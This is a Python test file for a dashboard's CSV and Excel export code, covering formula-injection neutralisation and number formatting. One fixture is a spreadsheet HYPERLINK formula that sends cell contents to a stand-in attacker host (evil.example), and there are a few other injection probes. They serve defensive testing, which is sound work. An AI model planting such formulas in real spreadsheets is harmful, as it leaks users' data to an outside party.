import csv
import io

import openpyxl
import pandas as pd

from dashboard.exports import csv_bytes, neutralise, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def frame():
    return pd.DataFrame(
        {
            "街道": [EVIL, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "西溪街道", None],
            "事件数": [1, -2, 3, 4, 5, 6, 7, 8],
            "=header": ["a"] * 8,
            "mixed": [-1, "-1", 2.5, "x", None, "=1", 3, "@"],
        }
    )


def test_neutralise_prefixes_formula_starts_and_leaves_numbers():
    safe = neutralise(frame())
    assert safe["街道"].tolist()[:6] == ["'" + v for v in (EVIL, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx")]
    assert safe["街道"].iloc[6] == "西溪街道"
    assert pd.isna(safe["街道"].iloc[7])
    assert safe["事件数"].tolist() == [1, -2, 3, 4, 5, 6, 7, 8]
    assert list(safe.columns) == ["街道", "事件数", "'=header", "mixed"]
    assert safe["mixed"].tolist()[:4] == [-1, "'-1", 2.5, "x"]
    assert safe["mixed"].tolist()[5:] == ["'=1", 3, "'@"]


def test_csv_has_bom_and_no_formula_cells():
    content = csv_bytes(frame())
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["街道", "事件数", "'=header", "mixed"]
    assert rows[1][0] == "'" + EVIL


def test_xlsx_text_cells_are_strings_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame(), "streets")))
    cells = [c for row in book["streets"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert book["streets"]["A2"].value == "'" + EVIL
    assert book["streets"]["A2"].data_type == "s"
    assert book["streets"]["B3"].value == -2


def test_numbers_keep_one_number_of_decimals_per_column_and_stay_numbers():
    table = pd.DataFrame(
        {"名称": ["甲", "乙", "丙"], "人口": [1234567, 89, 0], "满意度": [4.1, 4.14, None], "率": [-2.5, 3.0, 10.25]}
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(table, {"率": 1}).decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["甲", "1234567", "4.10", "-2.5"], ["乙", "89", "4.14", "3.0"], ["丙", "0", "", "10.2"]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "t")))["t"]
    assert sheet["B2"].value == 1234567 and sheet["B2"].number_format == "#,##0"
    assert sheet["C2"].value == 4.1 and sheet["C2"].number_format == "#,##0.00"
    assert sheet["A2"].data_type == "s" and sheet["A2"].number_format == "General"
